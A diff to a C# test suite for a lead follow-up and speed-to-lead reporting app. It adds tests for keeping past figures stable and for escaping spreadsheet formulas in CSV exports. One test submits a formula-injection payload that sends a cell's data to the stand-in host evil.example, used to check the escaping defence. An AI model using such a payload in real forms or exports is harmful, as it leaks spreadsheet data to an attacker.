@@ -20,7 +20,12 @@ public sealed class SpeedToLeadTests(AzuriteFixture azurite)
     [Fact]
     public async Task The_report_gives_each_owner_and_source_its_figures_in_business_minutes()
     {
-        await using var app = new FollowUpApp(azurite, new Dictionary<string, string?> { ["FollowUp:Timers:ScanDueWindows"] = "0 0 0 1 1 *" });
+        // The nightly roll-up is off: run as the clock jumps, it would keep a day's figures from before its last contact.
+        await using var app = new FollowUpApp(azurite, new Dictionary<string, string?>
+        {
+            ["FollowUp:Timers:ScanDueWindows"] = "0 0 0 1 1 *",
+            ["FollowUp:Timers:RollUpReports"] = "0 0 0 1 1 *",
+        });
         var a = await app.SubmitAsync(new { name = "Ana", email = "ana@example.com" }); // Mon 09:00
         await AttemptAsync(app, a, "2026-11-23T14:05:00Z"); // 5 business minutes: within the 15-minute promise
         app.Time.SetUtcNow(DateTimeOffset.Parse("2026-11-23T14:10:00Z"));
@@ -132,6 +137,41 @@ public sealed class SpeedToLeadTests(AzuriteFixture azurite)
         Assert.Equal("Bright Side Plumbing: speed to lead, week of Nov 23", email.Subject);
         Assert.Contains("- Dana Reyes: 1 inquiries, 1 contacted, median 6 min, 90% within 6 min, 100% within the promise", email.Text);
         Assert.Contains("Per source", email.Text);
+    }
+
+    [Fact]
+    public async Task Changing_hours_and_windows_later_does_not_rewrite_past_figures()
+    {
+        var settings = new Dictionary<string, string?> { ["FollowUp:Timers:ScanDueWindows"] = "0 0 0 1 1 *" };
+        string prefix;
+        await using (var before = new FollowUpApp(azurite, settings))
+        {
+            prefix = before.Prefix;
+            var id = await before.SubmitAsync(new { name = "Ana", email = "ana@example.com" }); // Mon 09:00, promised by 09:15
+            await AttemptAsync(before, id, "2026-11-23T14:20:00Z"); // 20 minutes: the promise was not kept
+        }
+
+        // Later the business opens at 09:10 and promises an hour: worked out again, the same contact would read 10 minutes, in time.
+        settings["FollowUp:Windows:WebForm"] = "01:00:00";
+        settings["FollowUp:Windows:Hours:Monday"] = "09:10-18:00";
+        await using var after = new FollowUpApp(azurite, settings, prefix);
+        after.Time.SetUtcNow(DateTimeOffset.Parse("2026-11-23T15:00:00Z"));
+
+        var total = (await ReportAsync(after, "from=2026-11-23&to=2026-11-23")).GetProperty("total");
+
+        Assert.Equal((20.0, 0.0), (total.GetProperty("medianMinutes").GetDouble(), total.GetProperty("contactedInWindow").GetDouble()));
+    }
+
+    [Fact]
+    public async Task A_source_that_looks_like_a_formula_is_text_in_the_csv()
+    {
+        await using var app = new FollowUpApp(azurite, new Dictionary<string, string?> { ["FollowUp:Timers:ScanDueWindows"] = "0 0 0 1 1 *" });
+        await app.SubmitAsync(new { name = "Eve", email = "eve@example.com", source = "=HYPERLINK(\"https://evil.example/?d=\"&C3,\"Open\")" });
+
+        var csv = await ReportCsvAsync(app, "from=2026-11-23&to=2026-11-23");
+
+        Assert.Contains("source,\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&C3,\"\"Open\"\")\",\"'=HYPERLINK(", csv);
+        Assert.DoesNotContain(",\"=HYPERLINK", csv);
     }
 
     [Fact]
